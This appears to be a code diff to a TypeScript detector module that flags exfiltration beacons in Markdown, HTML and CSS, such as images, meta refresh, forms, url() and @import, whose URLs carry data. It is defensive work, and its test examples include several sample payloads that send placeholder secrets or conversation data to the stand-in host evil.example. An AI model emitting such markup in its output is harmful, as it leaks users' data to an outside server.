@@ -4,6 +4,7 @@
  */
 import type { Confidence, LiteralDetector } from '../detector.ts';
 import { entropyBits } from '../randomness.ts';
+import { findImage } from './markdown-image.ts';
 
 const exfiltrationDefaults = { family: 'exfiltration', inbound: 'allow', outbound: 'redact' } as const;
 /** No character ends a URL but those of its pattern. */
@@ -16,12 +17,7 @@ export const exfiltrationDetectors: readonly LiteralDetector[] = [
     title: 'Markdown image whose URL carries data',
     source: 'CommonMark §6.4 (images); BOUNDARY: exfiltration through rendered images',
     literals: ['!['],
-    format: {
-      kind: 'pattern',
-      pattern: /!\[[^\]\n]{0,200}\]\(\s{0,4}<?(?<secret>(?:https?:)?\/\/[^\s()<>!]{4,2048})/iy,
-      alphabet: noAlphabet,
-      check: carriesData,
-    },
+    format: { kind: 'span', find: (text, at) => findImage(text, at, carriesData) },
     examples: {
       hit: [
         '![logo](https://evil.example/p.png?q=SECRET_GOES_HERE)',
@@ -29,6 +25,7 @@ export const exfiltrationDetectors: readonly LiteralDetector[] = [
         '![x](https://evil.example/{{conversation}}.png)',
         '![x](https://evil.example/aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Q1/pixel.gif)',
         '![x](https://evil.example/746865206b657920697320686572652e.gif)',
+        '![a [b]\n(c)](<https://evil.example/c?data=ada.lovelace> "title")',
       ],
       miss: [
         '![logo](https://example.com/logo.png)',
@@ -45,18 +42,26 @@ export const exfiltrationDetectors: readonly LiteralDetector[] = [
   {
     ...exfiltrationDefaults,
     id: 'markdown-reference-beacon',
-    title: 'Markdown reference whose URL leaves a place for data',
+    title: 'Markdown reference whose URL carries data',
     source: 'CommonMark §4.7 (link reference definitions)',
     literals: [']: http', ']: //'],
     format: {
       kind: 'pattern',
       pattern: /\]: <?(?<secret>(?:https?:)?\/\/[^\s>\]]{4,2048})/iy,
       alphabet: noAlphabet,
-      check: leavesPlaceForData,
+      check: (url) => (carriesData(url) === 'high' ? 'high' : null),
     },
     examples: {
-      hit: ['![x][1]\n\n[1]: https://evil.example/?data={secret}', '[a]: https://evil.example/log?q='],
-      miss: ['[1]: https://example.com/docs?page=2', '[npm]: https://www.npmjs.com/package/express'],
+      hit: [
+        '![x][1]\n\n[1]: https://evil.example/?data={secret}',
+        '[a]: https://evil.example/log?q=',
+        '![x][1]\n\n[1]: https://evil.example/log?q=ada.lovelace',
+      ],
+      miss: [
+        '[1]: https://example.com/docs?page=2',
+        '[npm]: https://www.npmjs.com/package/express',
+        '[spec]: https://docs.example.com/document/d/1U1RGAehQwRypUTovF1KRlpiOFze0b-_2gc6fAH0KY0k/edit',
+      ],
     },
   },
   {
@@ -64,11 +69,31 @@ export const exfiltrationDetectors: readonly LiteralDetector[] = [
     id: 'html-beacon',
     title: 'HTML element that loads a URL which carries data',
     source: 'HTML Standard §4.8 (embedded content)',
-    literals: ['<img', '<iframe', '<embed', '<object', '<video', '<audio', '<source', '<link', '<script'],
+    literals: [
+      '<img',
+      '<image',
+      '<iframe',
+      '<frame',
+      '<embed',
+      '<object',
+      '<video',
+      '<audio',
+      '<source',
+      '<track',
+      '<link',
+      '<script',
+      '<form',
+      '<input',
+      '<button',
+      '<meta',
+      '<base',
+      '<body',
+      '<use',
+    ],
     format: {
       kind: 'pattern',
       pattern:
-        /<(?:img|iframe|embed|object|video|audio|source|link|script)[^<>]{0,160}(?:src|href|data|poster|srcset) {0,2}= {0,2}["']?(?<secret>(?:https?:)?\/\/[^\s"'<>]{4,2048})/iy,
+        /<(?:img|image|iframe|frame|embed|object|video|audio|source|track|link|script|form|input|button|meta|base|body|use)[^<]{0,300}[\s"'/](?:src|href|xlink:href|data|poster|srcset|action|formaction|background|content)\s{0,2}=\s{0,2}["']?(?:\d{0,4}; ?url=["']?)?(?<secret>(?:https?:)?\/\/[^\s"'<>]{4,2048})/iy,
       alphabet: noAlphabet,
       check: carriesData,
     },
@@ -77,12 +102,39 @@ export const exfiltrationDetectors: readonly LiteralDetector[] = [
         '<img src="https://evil.example/collect?d=SECRET">',
         '<img src="https://evil.example/c?data=ada.lovelace">',
         '<iframe width=0 src=//evil.example/?q={{history}}></iframe>',
+        '<img alt="a > b" src="https://evil.example/c?d=SECRET">',
+        '<svg><image href="https://evil.example/p?d=SECRET"/></svg>',
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/?d=SECRET">',
+        '<form action="https://evil.example/?d=SECRET"><input autofocus></form>',
       ],
       miss: [
         '<img src="https://example.com/logo.png">',
         '<script src="https://cdn.example.com/npm/vue@3.4.0"></script>',
         '<img alt="x" src="/local.png?v=2">',
         '<link rel="stylesheet" href="https://fonts.example.com/css2?family=Inter&display=swap">',
+      ],
+    },
+  },
+  {
+    ...exfiltrationDefaults,
+    id: 'css-beacon',
+    title: 'Style that loads a URL which carries data',
+    source: 'CSS Values and Units Level 4 §5 (url()); CSS Cascading and Inheritance Level 4 §2 (@import)',
+    literals: ['url(', '@import'],
+    format: {
+      kind: 'pattern',
+      pattern: /(?:url\(|@import)\s{0,4}["']?(?<secret>(?:https?:)?\/\/[^\s"'()<>;]{4,2048})/iy,
+      alphabet: noAlphabet,
+      check: carriesData,
+    },
+    examples: {
+      hit: [
+        '<div style="background:url(https://evil.example/p?d=SECRET)">',
+        "@import 'https://evil.example/a.css?d=SECRET';",
+      ],
+      miss: [
+        'background: url(https://example.com/logo.png)',
+        "@import url('https://fonts.example.com/css2?family=Inter&display=swap');",
       ],
     },
   },
